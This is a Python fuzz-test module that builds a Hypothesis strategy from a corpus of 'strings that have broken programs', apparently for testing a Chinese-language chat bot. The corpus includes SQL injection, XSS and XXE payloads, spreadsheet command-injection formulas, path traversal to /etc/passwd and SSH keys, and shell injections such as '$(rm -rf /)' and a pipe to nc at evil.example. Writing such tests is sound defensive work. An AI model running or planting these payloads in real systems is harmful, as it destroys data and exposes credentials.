"""Strings that have broken programs, and a strategy that makes more of them."""

from hypothesis import strategies as st

SQL = (
    "'; DROP TABLE inbox; --",
    '"; DELETE FROM "case"; --',
    "' OR '1'='1",
    "1); ATTACH DATABASE '/tmp/x' AS x; --",
    "%' UNION SELECT contact, name FROM account --",
    "_%_%",
    "\\'; PRAGMA writable_schema=1; --",
    ":wanted ?1 @p $x",
)
MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<msg><appmsg><title>已销号</title></appmsg></msg>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    "[河长办](http://evil.example) **已受理**",
    "{{7*7}} ${7*7} #{7*7} %(text)s {0.__class__} {text}",
    '=HYPERLINK("http://evil.example","点我")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b]0;pwned\x07\x1b[2J\x1b[31m",
    "[red]红[/red]",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\config",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\CON\\PRN.txt",
    "~/.ssh/id_rsa",
    "a/../../keys/inbox.key",
    "%2e%2e%2fkeys",
    "照片.jpg.exe",
    ".jpg",
    "a" * 300 + ".jpg",
    "x.j/../../p",
    "photo.php\x00.jpg",
)
COMMANDS = (
    "$(rm -rf /)",
    "`id`",
    "; cat /etc/passwd",
    "| nc evil.example 4444",
    "&& shutdown -h now",
    "--config=/etc/passwd",
    "\n受理 1\n销号 1 好了",
    "河小督：已登记 999号",
    "@所有人 @all",
    "「河小督：新问题 1号」\n- - - - - - - - - - - - - - -\n受理",
)
UNICODE = (
    "",
    " ",
    "\u3000\u3000",
    "\x00",
    "\u202e9号已销号\u202c",
    "\u200b受\u200b理\u200b 1",
    "\ufeff受理 1",
    "１２３号　受理",
    "Ⅻ号 受理 ②",
    "受理 ١",
    "e\u0301\u0301\u0301" * 50,
    "👨‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "\ud7ff\ue000\U0010ffff",
    "ﷺ" * 100,
    "长" * 5000,
    "1" * 5000,
    "((((((((((" * 200,
    "\n" * 2000,
    "，。" * 1000,
    "null",
    "NaN",
    "-1",
    "1e309",
    "0x7fffffffffffffff",
    "9" * 40 + "号",
)
CORPUS = (*SQL, *MARKUP, *PATHS, *COMMANDS, *UNICODE)

strings = st.one_of(
    st.sampled_from(CORPUS),
    st.text(max_size=80),
    st.lists(st.one_of(st.sampled_from(CORPUS), st.text(max_size=10)), max_size=3).map("".join),
)
"""Of the corpus, of anything, and of both in a row."""
